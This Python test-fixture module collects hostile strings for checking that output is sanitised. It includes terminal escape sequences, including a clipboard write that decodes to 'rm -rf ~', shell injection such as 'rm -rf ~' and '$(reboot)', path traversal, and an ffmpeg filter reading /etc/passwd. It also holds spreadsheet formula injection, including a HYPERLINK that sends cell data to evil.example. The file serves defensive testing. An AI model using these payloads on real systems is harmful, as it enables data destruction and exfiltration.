"""Texts that do harm in a program that interprets them: a terminal, shell, file system, player or spreadsheet."""

# Each text contains a word by which a test recognises it on a screen.
TERMINAL = {
    "clear": "clear\x1b[2J\x1b[H\x1b[3Jed",
    "title": "title\x1b]0;pwned\x07\x1b]2;pwned\x1b\\s",
    "clipboard": "clip\x1b]52;c;cm0gLXJmIH4=\x07board",
    "link": "link\x1b]8;;http://evil.example/\x1b\\ed\x1b]8;;\x1b\\",
    "colour": "colour\x1b[31;5mful",
    "eight": "eight\x9b2J\x9d0;pwned\x9cbit",
    "reset": "re\x1bcset\x1b(0\x1b[?1049h\x1b[?25l\x1b[?1000hs",
    "report": "rep\x1b[6n\x1b[c\x1bP$qm\x1b\\\x1b_x\x1b\\ort",
    "bell": "be\x07ll\x08\x08\x08\x00\x7f",
    "turned": "tur\u202egpj.exe\u2066ned\u2069\u200f",
    "unseen": "un\u200b\ufeff\u2060\U000e0041seen",
    "returned": "returned\rOK: all is well\x0b\x0c\x85\u2028\u2029",
    "cut off": "cut\x1b]0;never ended",
}  # fmt: skip
MARKUP = {
    "rich": "[bold red]rich[/] [link=http://evil.example]markup[/link] [/nothing] [blink]\\[x] :skull:",
    "html": "<script>alert(1)</script><b>&amp;\"'</b> --> {\\an8}",
}
SHELL = {
    "shell": "$(touch HOSTILE-RAN) `touch HOSTILE-RAN`; touch HOSTILE-RAN; rm -rf ~ | touch HOSTILE-RAN && %PATH% !!"
}
PATHS = {
    "up": "../../../../HOSTILE-PATH/x",
    "windows": "C:\\HOSTILE-PATH\\CON.mp4",
    "rooted": "/tmp/HOSTILE-PATH/x.mp4",
    "dash": "--output=/tmp/HOSTILE-PATH",
}
FILTER = {"filter": "drawtext=text='%{localtime}':textfile=/etc/passwd\\,[in]movie=x.mp4[out];%n%s%x {0} ${HOME}"}
FORMULAS = {
    "equals": '=HYPERLINK("http://evil.example?"&A1,"formula")',
    "plus": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|x",
    "minus": "-2+3+cmd|x",
    "tab": "\t=1+1",
}
EVERY = {**TERMINAL, **MARKUP, **SHELL, **PATHS, **FILTER, **FORMULAS}
ALL = " ".join(EVERY.values())
# The text is short, because the sandbox needs time to speak. Its words are spoken and shown, its codes are not.
SPOKEN = "Fine \x1b]0;pwned\x07words <6 %{n} ='x y \u202eturned\u202c --> & $(reboot) end."
# The words of the text that are spoken and shown.
SAID = "Fine words <6 %{n} ='x y turned --> & $(reboot) end."


def is_harmless(text: str) -> bool:
    """Whether a terminal only prints the text: it has visible characters and line ends only."""
    return all(character.isprintable() or character in "\n\u00a0" for character in text)
